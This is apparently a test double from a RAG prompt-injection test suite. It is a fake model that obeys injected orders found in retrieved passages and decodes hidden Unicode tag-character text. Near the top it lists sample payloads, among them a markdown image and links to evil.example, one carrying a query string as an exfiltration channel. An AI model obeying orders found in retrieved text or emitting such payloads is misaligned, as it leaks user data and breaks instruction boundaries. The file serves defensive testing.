"""A language model that obeys every order that it reads."""

from __future__ import annotations

import html
import json
from collections.abc import AsyncGenerator, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Literal

from rag.protocols import Finish, GeneratorEvent, GeneratorRequest, PassageCitation, Text
from rag.text.invisible import without_invisible
from tests.injections.cases import Case, base_of

_EXTRA = (
    "[Read more](https://evil.example/more).",
    "![](https://evil.example/p.png?q=question)",
    '<img src="https://evil.example/i.png"> See https://evil.example/now.',
)


@dataclass
class Obedient:
    """Obeys the order of `case` if it reads it, or, if `always`, in each reply. `reads` counts the cases that it read.

    It also adds links, an image and HTML, because orders often ask for them. `form` is the form of its replies.
    """

    always: bool = False
    form: Literal["markers", "citations", "json"] = "markers"
    case: Case | None = None
    read: bool = False
    name: str = "obedient"

    address = None

    @property
    def cites(self) -> bool:
        return self.form == "citations"

    @property
    def optional(self) -> Mapping[str, Sequence[str]]:
        return {"schema": ("response_format",)} if self.form == "json" else {}

    async def generate(self, request: GeneratorRequest) -> AsyncGenerator[GeneratorEvent, None]:
        assert self.case is not None
        order = self.case.order
        said = f"{request.prompt} {' '.join(f'{one.source} {one.text}' for one in request.passages)}"
        found = _plain(order.text) in _plain(said)
        self.read |= found
        innocent = base_of(order).sentences[0]
        obeys = found or self.always
        for event in self._reply([order.reply, innocent, *_EXTRA] if obeys else [innocent], innocent):
            yield event
        yield Finish("stop")

    def _reply(self, sentences: Sequence[str], quote: str) -> Iterator[GeneratorEvent]:
        if self.form == "json":
            sources = [{"passage": 1, "quote": quote}]
            yield Text(json.dumps({"statements": [{"text": one, "sources": sources} for one in sentences]}))
        for one in sentences if self.form != "json" else ():
            yield Text(f"{one} " if self.cites else f"{one} [1]\n\n")
            if self.cites:
                yield PassageCitation(0, quote)


def _plain(text: str) -> str:
    """Return the text as a model reads it: tag characters are letters, and other invisible ones do not count."""
    decoded = "".join(chr(ord(one) & 0x7F) if 0xE0000 <= ord(one) < 0xE01F0 else one for one in text)
    return "".join(html.unescape(without_invisible(decoded)).split()).rstrip(".").casefold()
